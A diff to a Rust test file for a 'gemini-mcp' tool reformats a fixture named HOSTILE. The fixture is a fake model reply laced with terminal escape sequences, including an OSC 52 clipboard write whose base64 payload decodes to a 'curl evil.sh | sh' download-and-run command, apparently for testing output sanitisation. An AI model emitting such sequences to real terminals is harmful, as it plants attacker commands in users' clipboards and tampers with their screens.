@@ -14,7 +14,8 @@ use crate::support::fake_gemini::{FakeGemini, Script};
 const KEY: &str = "test-key";
 
 /// OSC 52 (writes the clipboard), OSC 0 (retitles the window), clear screen, and a C1 CSI.
-const HOSTILE: &str = "Sure.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}8m done";
+const HOSTILE: &str =
+    "Sure.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}8m done";
 
 fn gemini_mcp(root: &Path, fake: &FakeGemini) -> Command {
     let mut cmd = Command::new(env!("CARGO_BIN_EXE_gemini-mcp"));
